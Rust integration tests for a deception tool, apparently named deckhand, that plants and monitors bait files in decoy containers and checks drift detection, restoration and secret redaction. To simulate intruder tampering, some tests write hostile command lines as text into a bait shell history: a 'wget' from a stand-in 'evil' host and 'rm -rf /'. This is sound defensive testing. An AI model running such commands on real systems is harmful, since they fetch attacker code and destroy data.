//! Bait files: dropped, read back, diffed, restored and deleted live.

mod common;

use base64::Engine as _;
use common::{cat, docker, stat, Fleet};

const HEAD: &str = concat!(
    fleet_table!(),
    ssh_service!(),
    r#"
[deckies.{fleet}-a]
services = ["ssh"]
"#
);

fn with_files(files: &str) -> String {
    format!("{HEAD}\n{files}")
}

#[test]
fn binary_content_and_metadata_round_trip_byte_for_byte() {
    let fleet = Fleet::new("bin");
    let bytes: Vec<u8> = (0..=255u8).chain([0, 0, 0xff, b'\n']).collect();
    let b64 = base64::engine::general_purpose::STANDARD.encode(&bytes);
    fleet.write_file("files/history", b"ls -la\nexit\n");
    fleet.write(&with_files(&format!(
        r#"
[deckies.{{fleet}}-a.files."/opt/agent/blob.bin"]
content_b64 = "{b64}"
mode = 0o750
owner = "1234:4321"
mtime = "2024-02-29T12:34:56Z"

[deckies.{{fleet}}-a.files."/home/admin/deep/er/.bash_history"]
source = "files/history"
mode = "0600"
owner = "1000:1000"
mtime = "2025-01-12T09:30:00Z"

[deckies.{{fleet}}-a.files."/etc/motd"]
content = "Welcome\n"
target = "base"
"#
    )));
    let plan = fleet.plan();
    assert!(
        plan.stdout.contains("binary content: absent -> 260 bytes"),
        "{plan:?}"
    );
    assert!(plan.stdout.contains("+ls -la"), "{plan:?}");
    fleet.apply();

    let ssh = fleet.n("a-ssh");
    assert_eq!(cat(&ssh, "/opt/agent/blob.bin"), bytes);
    assert_eq!(
        stat(&ssh, "/opt/agent/blob.bin"),
        "750 1234:4321 1709210096 260"
    );
    assert_eq!(
        cat(&ssh, "/home/admin/deep/er/.bash_history"),
        b"ls -la\nexit\n"
    );
    assert_eq!(
        stat(&ssh, "/home/admin/deep/er/.bash_history"),
        "600 1000:1000 1736674200 12"
    );
    // Missing parents under a home are created 0755 with the file's owner;
    // elsewhere, root's.
    assert!(stat(&ssh, "/home/admin/deep/er").starts_with("755 1000:1000 "));
    assert!(stat(&ssh, "/opt/agent").starts_with("755 0:0 "));
    // The default target is ssh when the decky has it; `target = "base"` wins.
    assert_eq!(cat(&fleet.n("a"), "/etc/motd"), b"Welcome\n");
    assert!(stat(&fleet.n("a"), "/etc/motd").starts_with("644 0:0 "));
    fleet.assert_no_changes();
}

#[test]
fn drift_inside_a_decky_is_shown_as_a_diff_and_undone() {
    let fleet = Fleet::new("drift");
    fleet.write(&with_files(
        r#"
[deckies.{fleet}-a.files."/home/admin/.bash_history"]
content = "ls\ncd /srv\n"
mode = 0o600
mtime_offset = "-3d"
"#,
    ));
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    let mtime: i64 = stat(&ssh, "/home/admin/.bash_history")
        .split(' ')
        .nth(2)
        .unwrap()
        .parse()
        .unwrap();
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    assert!(
        (now - 3 * 86_400 - mtime).abs() < 120,
        "mtime_offset -3d gave {mtime}, now is {now}"
    );

    docker(&[
        "exec",
        &ssh,
        "sh",
        "-c",
        "echo 'wget http://evil/x' >> /home/admin/.bash_history",
    ]);
    let plan = fleet.plan();
    assert!(
        plan.stdout
            .contains(&format!("~ file {ssh}:/home/admin/.bash_history")),
        "{plan:?}"
    );
    assert!(plan.stdout.contains("content changed"), "{plan:?}");
    assert!(plan.stdout.contains("-wget http://evil/x"), "{plan:?}");
    fleet.apply();
    assert_eq!(cat(&ssh, "/home/admin/.bash_history"), b"ls\ncd /srv\n");
    fleet.assert_no_changes();

    docker(&["exec", &ssh, "chmod", "644", "/home/admin/.bash_history"]);
    let plan = fleet.plan();
    assert!(plan.stdout.contains("mode 0644 -> 0600"), "{plan:?}");
    assert!(!plan.stdout.contains("content changed"), "{plan:?}");
    fleet.apply();
    assert!(stat(&ssh, "/home/admin/.bash_history").starts_with("600 "));
    fleet.assert_no_changes();
}

#[test]
fn a_file_removed_from_the_config_is_deleted_and_absent_files_are_removed() {
    let fleet = Fleet::new("del");
    fleet.write(&with_files(
        r#"
[deckies.{fleet}-a.files."/root/notes.txt"]
content = "todo\n"

[deckies.{fleet}-a.files."/root/keep.txt"]
content = "keep\n"
"#,
    ));
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    // A file deckhand never dropped, to be removed by ensure = "absent".
    docker(&["exec", &ssh, "sh", "-c", "echo intruder > /tmp/.x"]);

    fleet.write(&with_files(
        r#"
[deckies.{fleet}-a.files."/root/keep.txt"]
content = "keep\n"

[deckies.{fleet}-a.files."/tmp/.x"]
ensure = "absent"
"#,
    ));
    let plan = fleet.plan();
    assert!(
        plan.stdout.contains(&format!(
            "- file {ssh}:/root/notes.txt  (dropped by deckhand, no longer in the file)"
        )),
        "{plan:?}"
    );
    assert!(
        plan.stdout.contains(&format!(
            "- file {ssh}:/tmp/.x  (ensure = \"absent\"; evidence kept first)"
        )),
        "{plan:?}"
    );
    assert!(
        plan.stdout
            .contains("0 to add, 0 to change, 0 to replace, 2 to destroy"),
        "{plan:?}"
    );
    fleet.apply();
    let (exists, _) = common::docker_try(&["exec", &ssh, "test", "-e", "/root/notes.txt"]);
    assert!(!exists, "notes.txt should be gone");
    let (exists, _) = common::docker_try(&["exec", &ssh, "test", "-e", "/tmp/.x"]);
    assert!(!exists, "/tmp/.x should be gone");
    assert_eq!(cat(&ssh, "/root/keep.txt"), b"keep\n");
    fleet.assert_no_changes();
}

#[test]
fn sensitive_content_never_appears_in_any_output() {
    let fleet = Fleet::new("secret");
    let marker = "s3cr3t-Marker-7f1c";
    let config = |password: &str| {
        with_files(&format!(
            r#"
[deckies.{{fleet}}-a.files."/root/.aws/credentials"]
content = "aws_secret_access_key = {password}\n"
sensitive = true
"#
        ))
    };
    fleet.write(&config(marker));
    let mut outputs = vec![
        fleet.plan().all(),
        fleet.deckhand(&["plan", "--format", "json"]).all(),
    ];
    outputs.push(fleet.apply().all());
    // Change it: the old and new contents are both secret.
    fleet.write(&config(&format!("{marker}-2")));
    outputs.push(fleet.plan().all());
    let json = fleet.deckhand(&["plan", "--format", "json"]);
    assert!(
        json.stdout.contains("\"sensitive\": true") && json.stdout.contains("\"sha256\""),
        "{json:?}"
    );
    outputs.push(json.all());
    outputs.push(fleet.apply().all());
    outputs.push(fleet.deckhand(&["status"]).all());
    for out in &outputs {
        assert!(!out.contains(marker), "sensitive content leaked:\n{out}");
    }
    assert!(outputs[3].contains("sensitive content:"), "{}", outputs[3]);
    // Nor in the engine-side record.
    let record = docker(&[
        "ps",
        "-a",
        "--filter",
        &format!("label=deckhand.fleet={}", fleet.name),
        "--format",
        "{{.Labels}}",
    ]);
    assert!(!record.contains(marker));
}

#[test]
fn replacing_a_service_drops_its_files_again() {
    let fleet = Fleet::new("redrop");
    let files = r#"
[deckies.{fleet}-a.files."/srv/data.txt"]
content = "payroll\n"
owner = "33:33"
mtime = "2023-03-03T03:03:03Z"
"#;
    fleet.write(&with_files(files));
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    let old_id = fleet.containers()[&ssh].id.clone();

    fleet.write(&with_files(files).replace(
        "[services.ssh]\nimage = \"{image}\"",
        "[services.ssh]\nimage = \"{alt}\"",
    ));
    let plan = fleet.plan();
    assert!(
        plan.stdout.contains(&format!("-/+ service {ssh}")),
        "{plan:?}"
    );
    assert!(
        plan.stdout.contains(&format!(
            "+ file {ssh}:/srv/data.txt  (container {ssh} is replaced)"
        )),
        "{plan:?}"
    );
    fleet.apply();
    assert_ne!(fleet.containers()[&ssh].id, old_id);
    assert_eq!(cat(&ssh, "/srv/data.txt"), b"payroll\n");
    assert_eq!(stat(&ssh, "/srv/data.txt"), "644 33:33 1677812583 8");
    fleet.assert_no_changes();
}

#[test]
fn a_source_outside_the_config_tree_is_refused() {
    let fleet = Fleet::new("escape");
    let outside = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(outside.path(), "not yours").unwrap();
    std::os::unix::fs::symlink(outside.path(), fleet.dir.path().join("link")).unwrap();
    fleet.write(&with_files(
        r#"
[deckies.{fleet}-a.files."/root/x"]
source = "link"
"#,
    ));
    let run = fleet.plan();
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stderr.contains("resolves to") && run.stderr.contains("outside"),
        "{run:?}"
    );
    assert!(fleet.containers().is_empty());
}

#[test]
fn deleting_a_file_in_a_container_without_rm_says_so() {
    let fleet = Fleet::new("norm");
    let config = |files: &str| {
        with_files(files).replace(
            "[services.ssh]\nimage = \"{image}\"",
            "[services.ssh]\nimage = \"deckhand/no-rm:1\"",
        )
    };
    fleet.write(&config(
        r#"
[deckies.{fleet}-a.files."/root/bait"]
content = "x"
"#,
    ));
    fleet.apply();
    fleet.write(&config(""));
    // Where deckhand cannot delete from the host, it runs the container's `rm`.
    let engine = [("DECKHAND_READ", "engine")];
    let run = common::deckhand_in(
        fleet.dir.path(),
        &["apply", "--auto-approve", "--no-color"],
        &engine,
    );
    assert_eq!(run.code, 1, "{run:?}");
    assert!(
        run.stdout
            .contains(&format!("container {} has no `rm`", fleet.n("a-ssh"))),
        "{run:?}"
    );
    // The file stays recorded, so the delete is planned again.
    let plan = fleet.plan();
    assert!(plan.stdout.contains("- file"), "{plan:?}");
}

#[test]
fn a_home_directory_stuffed_by_an_intruder_is_still_read_file_by_file() {
    let fleet = Fleet::new("stuffed");
    fleet.write(&with_files(
        r#"
[deckies.{fleet}-a.files."/home/admin/.bash_history"]
content = "ls\n"

[deckies.{fleet}-a.files."/home/admin/.ssh/id_rsa"]
content = "KEY\n"
mode = 0o600
"#,
    ));
    fleet.apply();
    fleet.assert_no_changes();
    // 24 MiB next to the bait: over the cap of one read for the whole home directory.
    docker(&[
        "exec",
        &fleet.n("a-ssh"),
        "dd",
        "if=/dev/zero",
        "of=/home/admin/loot.bin",
        "bs=1048576",
        "count=24",
    ]);
    fleet.assert_no_changes();
    docker(&[
        "exec",
        &fleet.n("a-ssh"),
        "sh",
        "-c",
        "echo rm -rf / >> /home/admin/.bash_history",
    ]);
    let run = fleet.plan();
    assert!(
        run.stdout.contains("+rm -rf /") || run.stdout.contains("-rm -rf /"),
        "{run:?}"
    );
    assert!(
        run.stdout.contains("Plan: 0 to add, 1 to change"),
        "{run:?}"
    );
}

// Regression: parents created for /home/admin/... were root-owned, which
// gives the decoy away (the admin's own home owned by root).
#[test]
fn parents_created_under_a_home_get_the_files_owner() {
    let fleet = Fleet::new("homeown");
    fleet.write(&with_files(
        r#"
[deckies.{fleet}-a.files."/home/admin/.aws/credentials"]
content = "[default]\n"
owner = "1000:1001"
mode = "0600"

[deckies.{fleet}-a.files."/opt/app/conf"]
content = "x\n"
owner = "1000:1000"
"#,
    ));
    fleet.apply();
    let ssh = fleet.n("a-ssh");
    let owner = |path: &str| stat(&ssh, path).split(' ').nth(1).unwrap().to_string();
    assert_eq!(owner("/home/admin"), "1000:1001");
    assert_eq!(owner("/home/admin/.aws"), "1000:1001");
    assert_eq!(owner("/home/admin/.aws/credentials"), "1000:1001");
    // Outside a home, and /home itself: created by the engine, root's.
    assert_eq!(owner("/home"), "0:0");
    assert_eq!(owner("/opt/app"), "0:0");
    fleet.assert_no_changes();
}
